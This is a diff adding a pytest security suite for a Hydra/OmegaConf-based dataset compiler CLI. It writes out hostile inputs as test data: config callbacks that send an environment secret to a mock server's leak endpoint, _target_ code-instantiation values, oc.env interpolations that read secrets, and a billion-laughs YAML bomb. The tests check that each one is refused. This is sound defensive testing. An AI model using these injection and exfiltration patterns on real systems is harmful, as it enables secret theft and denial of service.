@@ -1,0 +1,254 @@
+"""Attacks through config, traces, curated rows, templates and server replies: each is refused with one line
+(exit 2), and nothing is run, sent, written or leaked."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from compiler.spec.compose import Project
+from tests.conftest import edit
+from tests.llm_server import MockLLMServer
+
+SECRET = "sk-test-SECRETVALUE-4242"
+
+
+@pytest.fixture
+def server() -> Iterator[MockLLMServer]:
+    with MockLLMServer() as running:
+        yield running
+
+
+def _dsc(args: list[str], root: Path, **env: str) -> subprocess.CompletedProcess[str]:
+    return subprocess.run(
+        [sys.executable, "-m", "compiler.cli", *args],
+        cwd=root,
+        env={**os.environ, "DSC_PROJECT": str(root), "MYKEY": SECRET, **env},
+        capture_output=True,
+        text=True,
+        timeout=300,
+    )
+
+
+def _snapshot(root: Path) -> dict[str, tuple[int, int]]:
+    return {str(p.relative_to(root)): (p.stat().st_size, p.stat().st_mtime_ns) for p in root.rglob("*")}
+
+
+def _assert_refused(done: subprocess.CompletedProcess[str], *needles: str) -> str:
+    """Exit 2, one `dsc: error:` line per problem, no traceback, the secret nowhere; the first line returned."""
+    assert done.returncode == 2, (done.returncode, done.stdout, done.stderr)
+    assert "Traceback" not in done.stderr
+    assert SECRET not in done.stderr + done.stdout
+    lines = done.stderr.strip().splitlines()
+    assert lines and all(line.startswith("dsc: error: ") for line in lines), done.stderr
+    for needle in needles:
+        assert needle in done.stderr, (needle, done.stderr)
+    return lines[0]
+
+
+def _assert_secret_nowhere(root: Path) -> None:
+    for path in root.rglob("*"):
+        if path.is_file():
+            assert SECRET.encode() not in path.read_bytes(), path
+
+
+CALLBACK = """
+hydra:
+  callbacks:
+    leak:
+      _target_: urllib.request.urlopen
+      _args_: ["{url}?k=${{oc.env:MYKEY}}"]
+"""
+
+
+@pytest.mark.parametrize(
+    ("file", "old", "new", "args", "where"),
+    [
+        (
+            "conf/dataset/support_bot.yaml",
+            "name: support_bot\n",
+            "name: support_bot\n" + CALLBACK,
+            ["seed=1,2"],
+            "conf/dataset/support_bot.yaml:5: hydra: user files may not configure Hydra",
+        ),
+        (
+            "conf/experiment/persona_sweep.yaml",
+            "hydra:\n",
+            CALLBACK.lstrip() + "\n",
+            ["+experiment=persona_sweep"],
+            "conf/experiment/persona_sweep.yaml:8: hydra.callbacks: user files may not configure Hydra",
+        ),
+        (
+            "conf/config.yaml",
+            "  output_subdir: null\n",
+            "  output_subdir: null\n  callbacks:\n    leak:\n      _target_: urllib.request.urlopen\n"
+            '      _args_: ["{url}"]\n',
+            ["seed=1,2"],
+            "conf/config.yaml:35: hydra.callbacks: user files may not configure Hydra",
+        ),
+        (
+            "conf/personas/default.yaml",
+            "\n",
+            '\nevil:\n  _target_: urllib.request.urlopen\n  _args_: ["{url}"]\n',
+            ["seed=1,2"],
+            "_target_: names Python code for Hydra to instantiate",
+        ),
+        (
+            "conf/dataset/support_bot.yaml",
+            "name: support_bot\n",
+            "defaults:\n  - override /hydra/job_logging: disabled\n  - _self_\nname: support_bot\n",
+            ["seed=1,2"],
+            "conf/dataset/support_bot.yaml:4: defaults.0: chooses Hydra's own config",
+        ),
+        (
+            "conf/experiment/persona_sweep.yaml",
+            "      seed: 1,2\n",
+            "      seed: 1,2\n      hydra.callbacks.leak._target_: urllib.request.urlopen\n",
+            ["+experiment=persona_sweep"],
+            "hydra.sweeper.params.hydra.callbacks.leak._target_: names Python code",
+        ),
+    ],
+    ids=["dataset-callback", "experiment-callback", "config-callback", "persona-target", "defaults-hydra",
+         "sweeper-param"],
+)
+def test_a_sweep_never_runs_code_from_a_user_file(
+    project: Project, server: MockLLMServer, file: str, old: str, new: str, args: list[str], where: str
+) -> None:
+    root = project.root
+    edit(root / file, old, new.replace("{url}", server.base_url.removesuffix("/v1") + "/leak"))
+    before = _snapshot(root)
+    done = _dsc(["compile", "-m", *args], root)
+    _assert_refused(done, where)
+    assert server.stats.other == [] and server.stats.requests == 0
+    assert _snapshot(root) == before
+
+
+@pytest.mark.parametrize(
+    "override",
+    [
+        "hydra.callbacks.leak._target_=urllib.request.urlopen",
+        "+hydra.job.env_set.X=1",
+        "hydra.run.dir=/tmp/elsewhere",
+        "hydra/job_logging=disabled",
+        "description=${oc.env:MYKEY}",
+        "+lm.x={_target_:builtins.print}",
+    ],
+    ids=["callback", "env-set", "run-dir", "logging-group", "oc-env", "target-value"],
+)
+def test_the_command_line_may_only_choose_a_launcher_or_sweeper(project: Project, override: str) -> None:
+    before = _snapshot(project.root)
+    line = _assert_refused(_dsc(["compile", "-m", "seed=1,2", override], project.root))
+    assert f"command-line override `{override}`" in line
+    assert _snapshot(project.root) == before
+
+
+def test_documented_launcher_choices_and_sweeps_still_compose(project: Project) -> None:
+    done = _dsc(
+        ["plan", "+experiment=persona_sweep", "hydra/launcher=joblib", "hydra.launcher.n_jobs=2", "seed=3"],
+        project.root,
+    )
+    assert done.returncode == 0, done.stderr
+
+
+def test_a_user_hydra_folder_is_refused(project: Project, server: MockLLMServer) -> None:
+    folder = project.conf_dir / "hydra" / "launcher"
+    folder.mkdir(parents=True)
+    (folder / "evil.yaml").write_text(f"_target_: urllib.request.urlopen\nurl: {server.base_url}\n")
+    before = _snapshot(project.root)
+    _assert_refused(_dsc(["compile", "-m", "seed=1,2", "hydra/launcher=evil"], project.root), "conf/hydra")
+    assert server.stats.other == [] and _snapshot(project.root) == before
+
+
+@pytest.mark.parametrize(
+    ("value", "reason"),
+    [
+        ("${oc.env:MYKEY}", "uses the resolver `oc.env`"),
+        ("'${oc.decode:\"${oc.env:MYKEY}\"}'", "uses the resolver `oc.decode`"),
+        ("${hydra:runtime.cwd}", "uses the resolver `hydra`"),
+        ("${hydra.job.name}", "refers to `hydra.job.name`"),
+        ("\"x ${oc.select:name,${oc.env:MYKEY}}\"", "uses the resolver `oc.env`"),
+    ],
+    ids=["oc-env", "oc-decode", "hydra-resolver", "hydra-node", "nested"],
+)
+def test_interpolations_cannot_read_the_environment_into_outputs(
+    project: Project, value: str, reason: str
+) -> None:
+    path = project.conf_dir / "dataset" / "support_bot.yaml"
+    edit(path, "name: support_bot\n", f"name: support_bot\nnotes: {value}\n")
+    before = _snapshot(project.root)
+    line = _assert_refused(_dsc(["compile", "size=8"], project.root))
+    assert line.startswith("dsc: error: conf/dataset/support_bot.yaml:4: notes: " + reason), line
+    assert _snapshot(project.root) == before
+    _assert_secret_nowhere(project.root)
+
+
+def test_plain_references_still_work(project: Project) -> None:
+    path = project.conf_dir / "dataset" / "support_bot.yaml"
+    edit(path, "seed: 7\n", "seed: 7\nmax_rounds: ${coverage}\n")
+    done = _dsc(["plan", "--json"], project.root)
+    assert done.returncode == 0, done.stderr
+
+
+def test_the_environment_resolver_is_gone_after_the_check(project: Project) -> None:
+    from omegaconf import OmegaConf
+
+    from compiler.spec.safety import check_config_safety
+
+    check_config_safety([project.conf_dir], [], project.root)
+    with pytest.raises(Exception, match="oc.env"):
+        OmegaConf.to_container(OmegaConf.create({"a": "${oc.env:MYKEY}"}), resolve=True)
+
+
+@pytest.mark.parametrize(
+    ("override", "shown"),
+    [
+        (f"+lm.api_key={SECRET}", "+lm.api_key=***"),
+        (f"lm.api_base=http://user:{SECRET}@127.0.0.1:9/v1", "lm.api_base=http://***@127.0.0.1:9/v1"),
+    ],
+    ids=["api-key", "credentials-in-url"],
+)
+def test_a_refused_secret_is_named_never_shown(project: Project, override: str, shown: str) -> None:
+    done = _dsc(["plan", "lm=openai_compatible", "lm.model=m", override], project.root)
+    _assert_refused(done, shown)
+
+
+def _laughs(levels: int = 9) -> str:
+    lines = ["a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
+    for i in range(1, levels):
+        prev, name = chr(96 + i), chr(97 + i)
+        lines.append(f"{name}: &{name} [" + ", ".join([f"*{prev}"] * 9) + "]")
+    return "\n".join(lines) + "\n"
+
+
+@pytest.mark.parametrize(
+    ("text", "reason"),
+    [
+        (_laughs(), "expands to more than"),
+        ("deep: " + "[" * 120 + "]" * 120 + "\n", "nests deeper than 32 levels"),
+        ("deep: " + "{a: " * 60 + "1" + "}" * 60 + "\n", "nests deeper than 32 levels"),
+        ("loop: &x [*x]\n", "refers to itself or to nothing"),
+    ],
+    ids=["billion-laughs", "deep-list", "deep-map", "self-alias"],
+)
+def test_hostile_yaml_is_refused_before_it_is_expanded(project: Project, text: str, reason: str) -> None:
+    path = project.conf_dir / "dataset" / "support_bot.yaml"
+    path.write_text(path.read_text() + text)
+    line = _assert_refused(_dsc(["plan"], project.root), reason)
+    assert line.startswith("dsc: error: conf/dataset/support_bot.yaml:"), line
+
+
+def test_the_shared_spaces_pass_the_safety_check() -> None:
+    from compiler.spec.safety.rules import check_scanned
+    from compiler.spec.safety.yaml_scan import scan_yaml_file
+
+    spaces = sorted(Path("/work/shared/spaces").glob("*.yaml"))
+    if not spaces:
+        pytest.skip("no shared spaces on this machine")
+    for path in spaces:
+        assert check_scanned(scan_yaml_file(path, path.name), (), "group") == [], path
